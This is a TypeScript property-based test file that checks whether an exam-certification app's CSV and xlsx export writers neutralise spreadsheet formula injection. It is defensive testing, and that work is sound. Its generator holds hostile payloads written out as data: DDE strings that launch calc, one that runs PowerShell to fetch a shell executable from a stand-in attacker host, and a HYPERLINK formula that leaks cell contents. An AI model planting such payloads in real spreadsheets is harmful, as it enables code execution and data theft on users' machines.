/**
 * Formula injection on the way out (R13, R17): fast-check generates hostile texts (OWASP CSV
 * injection prefixes `=`, `+`, `-`, `@`, TAB, CR, DDE payloads, quotes and separators that try to
 * open a new CSV field) and puts them in every text position of the spreadsheet writers the exports
 * use: the bank export (`exportTheoryBankXlsx`, text and apostrophe modes), the report exports
 * (`writeExport`, CSV and xlsx), the archive tables (`writeCsv`) and the HR certificate data guard
 * (`neutraliseFormula`, applied to every field of the R13 export). No output cell may be a formula,
 * and no CSV field or non-Text xlsx string may start with a formula character. The same guarantee
 * end to end through the API is asserted in test/api (bank export, HR export, report exports) and
 * in xlsx-upload-fuzz.test.ts (import → export).
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportTheoryBankXlsx, type TheoryItem } from '@skillcert/bank-tools';
import { writeCsv } from '@skillcert/server/domain/archive/write-csv';
import { neutraliseFormula } from '@skillcert/server/domain/certificates/export-certificate-data';
import { writeExport, type ExportSheet } from '@skillcert/server/domain/reports/report-exports';
import { parseCsv } from '../helpers/csv';

const FORMULA_START = /^[=+\-@\t\r]/;

/** A text a spreadsheet could evaluate, or one that tries to break out of its CSV field. */
const hostileText = fc.oneof(
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\t=', '\r='), fc.string({ maxLength: 30 })).map(([prefix, rest]) => `${prefix}${rest}`),
  fc.constantFrom(
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.invalid/shell.exe)'!A0",
    '@SUM(1+9)*cmd|\' /C calc\'!A0',
    '=HYPERLINK("http://example.invalid/?x="&A1,"点此")',
    '-2+3+cmd|\' /C calc\'!A0',
    '+1+1',
    '"=1+1"',
    'a","=1+1',
    'a\n=1+1',
    'a;=1+1',
    'a,=1+1',
    '张三\r\n=1+1',
  ),
);
/** Ordinary Chinese text too, so hostile cells sit among normal ones. */
const anyText = fc.oneof(hostileText, fc.constantFrom('王小明', '维修电工', '合格', '江门市示例电力有限公司'), fc.string({ maxLength: 20 }));

/** CSV fields a spreadsheet would evaluate. */
function activeCsvFields(csv: Buffer): string[] {
  const text = csv.toString('utf8').replace(/^\uFEFF/, '');
  return parseCsv(text)
    .flat()
    .filter((field) => FORMULA_START.test(field));
}

/** xlsx cells a spreadsheet would evaluate: formulas, and formula-like strings not in Text format. */
async function activeXlsxCells(bytes: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const active: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) active.push(`${sheet.name}!${cell.address} formula`);
        if (cell.type === ExcelJS.ValueType.String && FORMULA_START.test(String(cell.value)) && cell.numFmt !== '@') active.push(`${sheet.name}!${cell.address} ${JSON.stringify(cell.value)}`);
      }),
    ),
  );
  return active;
}

describe('export writers under formula injection', () => {
  it('R17: report exports (CSV and xlsx) contain no evaluable cell for any generated text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(anyText, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 }), anyText, async (rows, header) => {
        const sheet: ExportSheet = { name: '试题分析', headers: [header, '部门', '姓名'], rows };
        const csv = await writeExport([sheet], 'csv', 'report');
        expect(activeCsvFields(csv.body)).toEqual([]);
        const xlsx = await writeExport([sheet], 'xlsx', 'report');
        expect(await activeXlsxCells(xlsx.body)).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  it('R16: archive tables (CSV) contain no evaluable field for any generated text', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(anyText, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 8 }), async (rows) => {
        expect(activeCsvFields(await writeCsv(['姓名', '备注'], rows))).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it('R13: the HR certificate data guard leaves no field starting with a formula character and changes nothing else', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const guarded = neutraliseFormula(text);
        expect(FORMULA_START.test(guarded)).toBe(false);
        expect(guarded === text || guarded === `'${text}`).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('R17: bank export xlsx (text mode) writes every hostile stem and option as a Text cell, never a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(hostileText, hostileText), { minLength: 1, maxLength: 5 }), async (texts) => {
        const items: TheoryItem[] = texts.map(([stem, option], index) => ({
          kind: 'theory',
          type: 'single',
          // The template cannot hold control characters or ** inside options (refused as NOT_EXPORTABLE).
          stem: `${stem.replace(/[\r\n\t]/g, ' ').trim()}${index}`,
          options: [`${option.replace(/[\r\n\t]/g, ' ').replace(/\*/g, '').trim()}甲`, '选项乙'],
          answer: [0],
        }));
        const bytes = Buffer.from(await exportTheoryBankXlsx(items, { formulaGuard: 'text' }));
        expect(await activeXlsxCells(bytes)).toEqual([]);
      }),
      { numRuns: 25 },
    );
  });

  it('R17: bank export in apostrophe mode leaves no cell starting with a formula character, hostile category and chapter included', async () => {
    const items: TheoryItem[] = [
      { kind: 'theory', type: 'single', stem: "=cmd|' /C calc'!A0", options: ['@SUM(1)', '选项乙'], answer: [1], category: '=1+1', chapter: "+cmd|' /C calc'!A0" },
      { kind: 'theory', type: 'judge', stem: '-2+3', options: ['正确', '错误'], answer: [0], category: '@SUM(1)' },
    ];
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exportTheoryBankXlsx(items, { formulaGuard: 'apostrophe' })) as unknown as ExcelJS.Buffer);
    const texts: string[] = [];
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => texts.push(String(cell.value))));
    expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
    expect(texts.some((text) => text.includes("=cmd|' /C calc'!A0"))).toBe(true);
    expect(texts).toContain("'=1+1");
  });
});
